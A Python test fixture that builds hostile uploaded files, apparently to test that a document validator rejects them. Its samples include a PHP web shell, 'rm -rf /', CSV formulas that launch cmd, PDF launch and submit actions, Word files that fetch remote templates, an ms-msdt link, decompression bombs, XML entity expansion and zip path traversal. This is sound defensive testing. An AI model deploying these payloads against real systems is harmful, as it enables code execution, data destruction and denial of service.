"""Hostile files, made here. Each is (name, content, a word of the refusal)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.factories.documents import pdf
from tests.integration.documents.honest import changed_pdf, link, office, picture


def _action(kind: str, **more: object) -> bytes:
    def change(p: pikepdf.Pdf) -> None:
        p.Root.OpenAction = Dictionary(S=Name(f"/{kind}"), **more)

    return changed_pdf(change)


def _hidden_script(p: pikepdf.Pdf) -> None:
    """The script stands in a field of a form, three dictionaries deep, inside an object stream."""
    action = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    field = p.make_indirect(Dictionary(FT=Name.Tx, T="a", AA=Dictionary(K=action)))
    p.Root.AcroForm = Dictionary(Fields=Array([field]))


def _script_names(p: pikepdf.Pdf) -> None:
    p.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", Dictionary(S=Name.JavaScript, JS="1")])))


def _attached(p: pikepdf.Pdf) -> None:
    p.attachments["bill.exe"] = b"MZ"


def _annotation(kind: str) -> bytes:
    def change(p: pikepdf.Pdf) -> None:
        note = p.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=[0, 0, 9, 9]))
        p.pages[0].Annots = Array([note])

    return changed_pdf(change)


def _xfa_script(p: pikepdf.Pdf) -> None:
    p.Root.AcroForm = Dictionary(
        Fields=Array(), XFA=Array(["form", p.make_stream(b"<xfa:script contentType='x'>1</xfa:script>")])
    )


def _obscured() -> bytes:
    """The name /JavaScript written with number signs, as scanners that search for words overlook."""
    return _action("JavaScript", JS="1").replace(b"/S /JavaScript", b"/S /J#61vaScript").replace(b"/JS ", b"/J#53 ")


def _bomb_pdf() -> bytes:
    """An object stream of 2 MB that unpacks to 2 GB."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b" " * 1_000_000) for _ in range(2000)) + packer.flush()
    objects = b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 9 0 R>>endobj\n"
    at = len(objects)
    stream = (
        b"2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
        + packed
        + b"\nendstream endobj\n"
    )
    table = struct.pack(">BHB", 1, 9, 0) + struct.pack(">BHB", 1, at, 0) + struct.pack(">BHB", 2, 2, 0)
    place = at + len(stream)
    reference = (
        b"3 0 obj<</Type/XRef/Size 10/W[1 2 1]/Index[1 2 9 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
        + table
        + b"\nendstream endobj\n"
    )
    return objects + stream + reference + b"startxref\n%d\n%%%%EOF\n" % place


def _many_pages() -> bytes:
    with pikepdf.new() as made:
        page = made.add_blank_page()
        for _ in range(1200):
            made.pages.append(page)
        out = io.BytesIO()
        made.save(out)
        return out.getvalue()


def _archive(members: dict[str, bytes], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as box:
        for name, content in members.items():
            box.writestr(name, content)
    return out.getvalue()


def _overlapping() -> bytes:
    """Two names for the same bytes: the directory's second entry points at the first's place."""
    data = bytearray(office(extra={"word/a.xml": b"<a/>", "word/b.xml": b"<a/>"}))
    first, last = data.index(b"PK\x01\x02"), data.rindex(b"PK\x01\x02")
    data[last + 42 : last + 46] = data[first + 42 : first + 46]
    return bytes(data)


def _encrypted_member() -> bytes:
    data = bytearray(office())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.rindex(mark)
        data[place + at] |= 1
    return bytes(data)


def _wide_png() -> bytes:
    """A PNG that says it is 100,000 by 100,000 pixels in 100 bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


_DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'
_MACRO = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
_DDE_BOOK = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
PDF = pdf()
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "nothing": ("a.pdf", b"", "empty"),
    "program named pdf": ("a.pdf", b"MZ\x90\0" + b"\0" * 400, "Inside"),
    "linux program named txt": ("a.txt", b"\x7fELF\x02\x01\x01" + b"\0" * 400, "Inside"),
    "web page named txt": ("a.txt", b"<!DOCTYPE html><html><script>1</script>", "web page"),
    "web page named csv": ("a.csv", b"name\n<script src=//x></script>", "web page"),
    "svg named txt": ("a.txt", b"<svg onload=alert(1)>", "web page"),
    "svg": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "kind of file"),
    "shell program named txt": ("a.txt", b"#!/bin/sh\nrm -rf /", "program"),
    "php named jpg": ("a.jpg", b"<?php system($_GET[0]); ?>", "does not fit"),
    "rtf named txt": ("a.txt", b"{\\rtf1{\\object\\objdata 01}}", "RTF"),
    "antivirus test file": ("a.txt", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!$H+H*", "antivirus"),
    "binary named txt": ("a.txt", b"words\0words", "readable"),
    "broken UTF-16": ("a.txt", b"\xff\xfe\x00\xd8a", "readable"),
    "control characters": ("a.txt", b"words \x1b]0;x\x07", "readable"),
    "csv that starts a program": ("a.csv", b"a,b\n=cmd|' /C calc'!A0,1\n", "starts a program"),
    "csv that starts a program, quoted": ("a.csv", b'a\n"@SUM(1)+cmd|\' /C calc\'!A0"\n', "starts a program"),
    "two endings": ("bill.exe.pdf", PDF, "two endings"),
    "name turned around": ("bill\u202efdp.exe.pdf", PDF, "invisible"),
    "program ending": ("bill.exe", PDF, "kind of file"),
    "macro ending": ("bill.docm", office(), "ZIP"),
    "pdf named docx": ("a.docx", PDF, "does not fit"),
    "png named jpg": ("a.jpg", picture("PNG", (50, 50)), "does not fit"),
    "pdf with a password": ("a.pdf", changed_pdf(lambda p: None, encryption=pikepdf.Encryption(owner="o", user="u")), "password"),
    "pdf locked by its owner": ("a.pdf", changed_pdf(lambda p: None, encryption=pikepdf.Encryption(owner="o", user="")), "password"),
    "pdf that runs a script": ("a.pdf", _action("JavaScript", JS="app.alert(1)"), "script"),
    "pdf with a script in a form": ("a.pdf", changed_pdf(_hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate), "script"),
    "pdf with named scripts": ("a.pdf", changed_pdf(_script_names), "script"),
    "pdf with an obscured script": ("a.pdf", _obscured(), "script"),
    "pdf with a scripted XFA form": ("a.pdf", changed_pdf(_xfa_script), "script"),
    "pdf that launches": ("a.pdf", _action("Launch", F="cmd.exe"), "starts or sends"),
    "pdf that sends a form": ("a.pdf", _action("SubmitForm", F="http://x"), "starts or sends"),
    "pdf that fetches another": ("a.pdf", _action("GoToR", F="\\\\\\\\x\\\\y"), "starts or sends"),
    "pdf that goes into an attached file": ("a.pdf", _action("GoToE"), "starts or sends"),
    "pdf that imports data": ("a.pdf", _action("ImportData", F="x"), "starts or sends"),
    "pdf with a file inside": ("a.pdf", changed_pdf(_attached), "attached"),
    "pdf with an attached note": ("a.pdf", _annotation("FileAttachment"), "attached"),
    "pdf with rich media": ("a.pdf", _annotation("RichMedia"), "video"),
    "pdf with a film": ("a.pdf", _annotation("Movie"), "video"),
    "pdf and zip at once": ("a.pdf", PDF + _archive({"x.exe": b"MZ"}), "something else"),
    "pdf with a tail": ("a.pdf", PDF + b"<script>1</script>", "something else"),
    "pdf cut off": ("a.pdf", PDF[:-60], "cut off"),
    "pdf of noise": ("a.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF", "damaged"),
    "pdf without pages": ("a.pdf", changed_pdf(lambda p: p.pages.__delitem__(slice(0, 1))), "no pages"),
    "pdf of too many pages": ("a.pdf", _many_pages(), "pages"),
    "pdf that unpacks to two gigabytes": ("a.pdf", _bomb_pdf(), "PDF"),
    "zip": ("a.zip", _archive({"a.txt": b"x"}), "ZIP"),
    "zip named docx": ("a.docx", _archive({"a.txt": b"x"}), "ZIP"),
    "rar": ("a.rar", b"Rar!\x1a\x07\x01\x00" + b"\0" * 100, "Inside"),
    "old word or a password": ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "password"),
    "iPhone picture": ("a.heic", b"\0\0\0\x18ftypheic" + b"\0" * 100, "HEIC"),
    "word with macros": ("a.docx", office(extra={"word/vbaProject.bin": b"x"}), "macros"),
    "word with macros declared": ("a.docx", office(types=_MACRO), "macros"),
    "word of the macro kind": ("a.docx", office(types='<Default Extension="x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'), "macros"),
    "word with ActiveX": ("a.docx", office(extra={"word/activeX/activeX1.bin": b"x"}), "macros"),
    "excel with a macro sheet": ("a.xlsx", office("xlsx", extra={"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    "excel that is a word file": ("a.xlsx", office("docx"), "does not fit"),
    "word with an OLE object": ("a.docx", office(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "inside"),
    "word with a program inside": ("a.docx", office(extra={"word/embeddings/a.exe": b"MZ"}), "macros"),
    "word whose workbook has macros": ("a.docx", office(extra={"word/embeddings/a.xlsx": office("xlsx", extra={"xl/vbaProject.bin": b"x"})}), "macros"),
    "word that fetches its template": ("a.docx", office(links=link("attachedTemplate", "https://x.example/t.dotm")), "fetches"),
    "word that fetches an object": ("a.docx", office(links=link("oleObject", "mhtml:https://x.example/a")), "fetches"),
    "word that fetches a frame": ("a.docx", office(links=link("frame", "\\\\x\\y")), "fetches"),
    "word with a script link": ("a.docx", office(links=link("hyperlink", "javascript:alert(1)")), "fetches"),
    "word with a protocol link": ("a.docx", office(links=link("hyperlink", "ms-msdt:/id x")), "fetches"),
    "excel that asks a program": ("a.xlsx", office("xlsx", extra={"xl/externalLinks/externalLink1.xml": _DDE_BOOK}), "fetches"),
    "word with entities": ("a.docx", office(body=_DTD), "damaged"),
    "word with entities in UTF-16": ("a.docx", office(body=_DTD.decode().encode("utf-16")), "damaged"),
    "word with entities in its links": ("a.docx", office(extra={"word/_rels/x.xml.rels": _DTD}), "damaged"),
    "word with a beginning that hides": ("a.docx", office(body=b"<!--" + b"x" * 70_000 + b"-->" + _DTD), "damaged"),
    "word that unpacks to much": ("a.docx", office(extra={"word/media/a.bin": b"\0" * 60_000_000}), "too large"),
    "word of too many parts": ("a.docx", office(extra={f"word/{n}.txt": b"" for n in range(3001)}), "too many"),
    "word with parts upon parts": ("a.docx", _overlapping(), "damaged"),
    "word with a locked part": ("a.docx", _encrypted_member(), "password"),
    "word with a path upward": ("a.docx", office(extra={"../../evil.xml": b"<a/>"}), "damaged"),
    "word with a part twice": ("a.docx", office(extra={"WORD/document.xml": b"<a/>"}), "damaged"),
    "word cut off": ("a.docx", office()[:-30], "damaged"),
    "word with a long tail": ("a.docx", office() + b"\0" * 70_000, "damaged"),
    "picture of ten thousand million pixels": ("a.png", _wide_png(), "pixels"),
    "picture and zip at once": ("a.jpg", picture() + _archive({"a.exe": b"MZ"}), "something else"),
    "picture and page at once": ("a.jpg", picture() + b"<script>alert(1)</script>", "something else"),
    "picture with a program in its comment": ("a.jpg", picture(comment=b"<?php system(1); ?>"), "something else"),
    "picture and pdf at once": ("a.png", picture("PNG", (30, 30)) + PDF, "something else"),
    "picture cut off": ("a.jpg", picture()[:3000], "damaged"),
    "picture of noise": ("a.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 500, "damaged"),
}  # fmt: skip
